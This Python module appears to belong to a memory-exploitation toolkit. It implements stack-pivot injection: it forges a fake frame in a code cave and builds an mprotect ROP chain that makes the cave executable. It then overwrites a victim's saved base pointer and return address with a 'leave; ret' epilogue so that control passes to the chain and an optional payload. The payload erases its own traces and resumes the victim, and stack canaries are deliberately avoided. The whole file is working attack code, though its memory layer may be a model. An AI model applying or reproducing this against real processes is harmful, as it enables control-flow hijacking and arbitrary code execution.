"""Fake stack frame forging and injection.

The pivot works entirely through data: the victim's saved base pointer is
redirected at a forged frame image inside a cave, and the saved return
address is replaced with the address of a function epilogue (leave; ret).
When the victim function returns, the epilogue runs a second time with the
attacker's frame, popping the original saved base pointer from the image
and then returning into the chain words that follow it.  Stack canaries sit
below the saved-base-pointer slot and are never touched.
"""

from __future__ import annotations

from dataclasses import dataclass

from . import caves, explorer, gadgets, machine
from .memspace import PAGE_SIZE, AddressSpace, PageRun
from .probe import WRITABLE


class InjectionError(Exception):
    """Forge or inject could not proceed; memory is left as found."""


@dataclass(frozen=True, slots=True)
class VictimFrame:
    """A located (saved rbp, saved rip) slot pair on the victim stack.

    The victim's own ``leave; ret`` would resume at ``saved_rip`` with rbp
    at ``saved_rbp`` and rsp at ``resume_rsp``, just past the pair.
    """

    rbp_slot_addr: int
    saved_rbp: int
    saved_rip: int

    @property
    def canary_slot_addr(self) -> int:
        """The slot conventionally holding the stack canary, just below the
        saved base pointer."""
        return self.rbp_slot_addr - 8

    @property
    def resume_rsp(self) -> int:
        return self.rbp_slot_addr + 16


def payload_offset(chain_words: int) -> int:
    """Offset of the payload from the image base: the first 16-byte
    boundary after the saved-rbp copy, ``chain_words`` chain words and the
    continuation word."""
    return (8 * (chain_words + 2) + 15) & ~15


@dataclass(frozen=True, slots=True)
class FakeFrameImage:
    """Everything the inject and execute stages plant and check.

    The byte image goes at the start of ``cave``: ``words[0]`` is the copy
    of the victim's saved base pointer, the chain words follow, ending in
    the continuation word, and an optional payload sits after them at
    ``payload_addr``.  ``marker`` is the (address, value) pair the payload
    writes to the cave's last word, outside the image; ``epilogue`` is the
    ``leave; ret`` site the armed frame returns into, so execution enters
    there; and ``stop_rsp`` is where rsp stands once the pivot is done.
    """

    cave: PageRun
    words: tuple[gadgets.ChainWord, ...]
    payload: bytes
    payload_addr: int | None
    marker: tuple[int, int] | None
    epilogue: int
    stop_rsp: int

    def image_bytes(self) -> bytes:
        blob = b"".join(w.value.to_bytes(8, "little") for w in self.words)
        if self.payload:
            pad = (self.payload_addr - self.cave.start) - len(blob)
            blob += bytes(pad) + self.payload
        return blob

    @property
    def cleanup(self) -> tuple[int, int] | None:
        """(start, length) the payload must zero afterwards: the frame word,
        the chain words, and the alignment padding before the payload.  The
        payload cannot be in it; code cannot zero bytes it has yet to
        execute.  None without a payload, since nothing zeroes the cave."""
        if self.payload_addr is None:
            return None
        return self.cave.start, self.payload_addr - self.cave.start


def locate_victim_frame(pm: explorer.PageMap, stack_ptr: int) -> VictimFrame:
    """The frame ``explorer.frame_above`` finds above ``stack_ptr``; its
    NoFrameError passes through when there is none."""
    return VictimFrame(*explorer.frame_above(pm, stack_ptr))


def forge_fake_frame(
    victim: VictimFrame,
    catalog: gadgets.GadgetCatalog,
    cave_list: list[PageRun],
    variant: str,
    marker_value: int | None,
) -> FakeFrameImage:
    """Plan the whole injected frame for ``victim``; no other code decides
    its layout, and nothing is written until inject() plants it.

    The image is the saved-rbp copy, the ``variant`` chain and a
    continuation word.  With a ``marker_value`` a payload follows at
    ``payload_offset``, the continuation enters it, and it writes the
    marker into the cave's last word, zeroes the image before itself and
    resumes the victim; without one the continuation is the victim's saved
    rip, so no injected code runs.  The cave is the first in ``cave_list``
    that holds all of it, else NoCaveError names the size needed.  The
    epilogue is the census's lowest ``leave; ret``.  The catalog must pass
    ``require`` for the chain's kinds and ``leave-ret``, as the gadgets
    stage makes sure it does.
    """
    # a gadget and an immediate per loader, then the syscall
    chain_words = 2 * len(gadgets.CHAINS[variant]) - 1
    payload_off = payload_offset(chain_words)
    frame_len = 8 * (chain_words + 2)
    if marker_value is None:
        need_len = frame_len
    else:
        need_len = payload_off + machine.payload_len(payload_off) + 8
    cave = caves.select_cave(cave_list, need_len)
    chain = gadgets.build_mprotect_chain(
        catalog, cave.start, cave.end - cave.start, machine.PROT_RWX, variant)
    epilogue = catalog.lowest("leave-ret")
    words = [gadgets.ChainWord(victim.saved_rbp, "saved-rbp"), *chain]
    if marker_value is None:
        words.append(gadgets.ChainWord(victim.saved_rip, "resume-address"))
        return FakeFrameImage(cave, tuple(words), b"", None, None, epilogue,
                              stop_rsp=cave.start + frame_len)
    payload_addr = cave.start + payload_off
    words.append(gadgets.ChainWord(payload_addr, "resume-address"))
    marker = (cave.end - 8, marker_value)
    payload = machine.assemble_payload(
        (cave.start, payload_off), marker,
        victim.resume_rsp, victim.saved_rbp, victim.saved_rip,
    )
    return FakeFrameImage(cave, tuple(words), payload, payload_addr, marker,
                          epilogue, stop_rsp=victim.resume_rsp)


def inject(pm: explorer.PageMap, victim: VictimFrame, image: FakeFrameImage) -> None:
    """Plant the image and arm the victim frame, on the store's verdicts.

    Every page either write touches is clawed through ``pm`` first; the
    store already holds them, so this pays no transaction.  The first page
    not writable raises InjectionError with nothing written.  The image
    goes into the cave first, then both frame slots in one 16-byte write,
    so the frame is never half-armed.  The canary slot below the frame is
    never written."""
    slot, cave, epilogue = victim.rbp_slot_addr, image.cave.start, image.epilogue
    frame = cave.to_bytes(8, "little") + epilogue.to_bytes(8, "little")
    writes = ((cave, image.image_bytes()), (slot, frame))
    for addr, data in writes:
        for base in range(AddressSpace.page_base(addr), addr + len(data), PAGE_SIZE):
            if pm.claw(base) is not WRITABLE:
                raise InjectionError(f"page {base:#x} is not writable")
    for addr, data in writes:
        pm.prober.safe_write(pm.space, addr, data)
